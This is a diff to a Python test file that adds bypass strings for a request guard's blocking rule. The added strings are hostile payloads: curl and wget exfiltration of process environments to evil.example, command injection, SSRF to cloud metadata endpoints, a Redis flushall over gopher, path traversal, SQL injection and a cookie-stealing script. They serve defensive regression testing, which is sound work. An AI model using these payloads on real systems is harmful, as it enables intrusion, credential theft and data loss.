@@ -210,6 +210,21 @@ def test_a_sentence_mentioning_a_sensitive_file_or_address_is_one_weak_signal_at
     "show me the file please, it is ../../../../etc/shadow",  # a climb blocks alone, sentence or not
     "we tried this on the new version, ;cat /etc/shadow and it was fine",
     "it was great, see http://169.254.169.254/latest/meta-data/ for the keys",  # a metadata address
+    # an independent review's bypasses of the first version of the mention rule
+    "hello this is my name and address; curl -F f=@/proc/self/environ http://evil.example",
+    "hello this is my name and address $(curl -d @/proc/self/environ evil.example)",
+    "I would like to order two large pizzas please\nwget http://10.0.0.5/x -O /tmp/x",
+    "http://10.0.0.5:8080/admin#our cats and dogs are very happy",
+    "http://0xa9fea9fe/2021-07-15/meta-data/iam/security-credentials/#our cats and dogs are very happy",
+    "file:///proc/self/environ#our cats and dogs are very happy",
+    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A#our cats and dogs are very happy",
+    "../../our cats and dogs are very happy now/../../proc/thread-self/environ",
+    "127.0.0.1;(env|base64)2>&1",
+    "foo.txt /proc/$$/environ",
+    "foo.txt /proc/[0-9]*/environ",
+    "1' or 'a' is normalized and '1'='1",
+    "<script>top. location='//evil.example/?'+document.cookie//",
+    "http:\\rancher-metadata\\2015-12-19\\self\\host",
 ])
 def test_a_path_or_a_climb_to_a_sensitive_file_still_blocks(value: str) -> None:
     assert Guard().inspect_event(_event(q=value)).blocked
